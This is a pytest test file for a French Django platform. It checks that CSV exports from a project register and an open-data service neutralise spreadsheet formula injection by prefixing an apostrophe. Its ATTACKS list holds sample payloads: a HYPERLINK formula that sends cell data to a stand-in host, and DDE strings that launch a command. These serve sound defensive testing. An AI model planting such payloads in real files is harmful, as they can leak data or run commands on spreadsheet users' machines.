"""CSV formula injection (finding M2): every CSV the platform writes neutralises cells that a
spreadsheet would run (`=`, `+`, `-`, `@`, tab, CR), with one rule (core.csv_safety), and keeps
numbers, negative ones included."""

import csv
import io

import pyarrow as pa
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from territoria.core.csv_safety import neutralise, neutralise_arrow, restore
from territoria.opendata import publishing
from territoria.opendata.models import Dataset, Resource
from territoria.opendata.module_datasets import refresh_module_dataset
from territoria.registre.factories import ProjectFactory
from territoria.registre.importers.service import import_file
from territoria.registre.models import Project

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["-12.5", "-1 200,50", "+33", "-3e-2", "42"]


@pytest.mark.parametrize("value", ATTACKS)
def test_neutralise_prefixes_dangerous_text_and_restore_undoes_it(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", [*NUMBERS, "Texte", "", None, 12, -3.5, "'déjà"])
def test_neutralise_keeps_numbers_and_plain_text(value):
    assert neutralise(value) == value and restore(value) == value


def test_neutralise_arrow_applies_the_same_rule():
    values = [*ATTACKS, *NUMBERS, "Texte", None]
    assert neutralise_arrow(pa.array(values)).to_pylist() == [neutralise(v) for v in values]
    numbers = pa.array([-1.5, 2.0])
    assert neutralise_arrow(numbers) is numbers


def _cells(body: bytes) -> list[str]:
    text = io.StringIO(body.decode("utf-8"), newline="")
    return [cell for row in csv.reader(text) for cell in row]


# The register's importer strips spaces around values and its CSV writer does not quote a
# bare carriage return: the register tests use the attacks without tab and CR, which the
# rule's own tests above and the open-data download test cover.
REGISTER_ATTACKS = ATTACKS[:4]


def _assert_neutralised(cells: list[str], attacks=ATTACKS):
    for attack in attacks:
        assert "'" + attack in cells, f"{attack!r} not neutralised"
        assert attack not in cells, f"{attack!r} written raw"


@pytest.fixture
def attacked_project(organisation):
    return ProjectFactory(
        organisation=organisation,
        nom_projet=ATTACKS[0],
        usage_description=ATTACKS[1],
        partenaires=ATTACKS[2],
        nom_algorithme=ATTACKS[3],
        projet_contact="contact@example.org",
    )


def test_register_csv_exports_neutralise_formulas(client, agent, attacked_project):
    client.force_login(agent)  # every field, restricted ones too
    response = client.get(reverse("registre:export", kwargs={"format": "csv"}), {"champs": "tous"})
    _assert_neutralised(_cells(b"".join(response.streaming_content)), REGISTER_ATTACKS)
    anchor = client.get(reverse("registre:export", kwargs={"format": "csv"}))
    cells = _cells(b"".join(anchor.streaming_content))
    assert "'" + ATTACKS[0] in cells and ATTACKS[0] not in cells


def test_register_cli_csv_export_neutralises_formulas(attacked_project, tmp_path):
    out = tmp_path / "export.csv"
    call_command("export_registre", "--format", "csv", "--output", str(out), "--restricted")
    cells = _cells(out.read_bytes())
    assert "'" + ATTACKS[0] in cells and ATTACKS[0] not in cells


def test_register_csv_export_reimports_unchanged(client, agent, attacked_project, tmp_path):
    client.force_login(agent)
    response = client.get(reverse("registre:export", kwargs={"format": "csv"}), {"champs": "tous"})
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(response.streaming_content))
    report = import_file(path)
    assert report.counts["unchanged"] == 1 and report.ok, report.render_text(verbose=True)
    assert Project.objects.get(pk=attacked_project.pk).nom_projet == ATTACKS[0]


@pytest.fixture
def opendata_dir(settings, tmp_path):
    settings.OPENDATA_DIR = tmp_path / "opendata"
    (settings.OPENDATA_DIR / "tmp").mkdir(parents=True)


def test_opendata_csv_download_neutralises_text_and_keeps_negative_numbers(
    client, organisation, opendata_dir
):
    dataset = Dataset.objects.create(title="Essai", description="x", organisation=organisation)
    resource = Resource.objects.create(dataset=dataset, title="Table")
    source = io.StringIO()
    writer = csv.writer(source, delimiter=";", lineterminator="\n")
    writer.writerow(["=libellé", "montant"])
    attacks = ATTACKS[:5]  # DuckDB's sniffer refuses a CR inside a field: not uploadable
    writer.writerows([a, f"-{i}.5"] for i, a in enumerate(attacks))
    content = source.getvalue().encode()
    version = publishing.receive_file(resource, SimpleUploadedFile("t.csv", content), "t.csv")
    assert not publishing.request_publication(version), version.error
    url = reverse("opendata:api-table-download", args=[resource.table_name, "csv"])
    body = b"".join(client.get(url).streaming_content)
    records = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert records[0] == ["'=libellé", "montant"]  # a header from the upload, too
    _assert_neutralised([row[0] for row in records[1:]], attacks)
    assert [row[1] for row in records[1:]] == [f"-{i}.5" for i in range(len(attacks))]
    json_rows = client.get(reverse("opendata:api-table-rows", args=[resource.table_name])).json()
    assert json_rows["rows"][0]["=libellé"] == ATTACKS[0]  # the data itself is unchanged


def test_register_dataset_keeps_raw_values_and_its_csv_download_is_neutralised(
    client, attacked_project, opendata_dir, django_capture_on_commit_callbacks
):
    version = refresh_module_dataset("registre-ia")  # the key registre/apps.py declares
    assert version.status == "published", version.error
    table = version.resource.table_name
    rows = client.get(reverse("opendata:api-table-rows", args=[table])).json()["rows"]
    assert rows[0]["nom_projet"] == ATTACKS[0]  # published data: no apostrophe
    url = reverse("opendata:api-table-download", args=[table, "csv"])
    cells = _cells(b"".join(client.get(url).streaming_content))
    assert "'" + ATTACKS[0] in cells and ATTACKS[0] not in cells
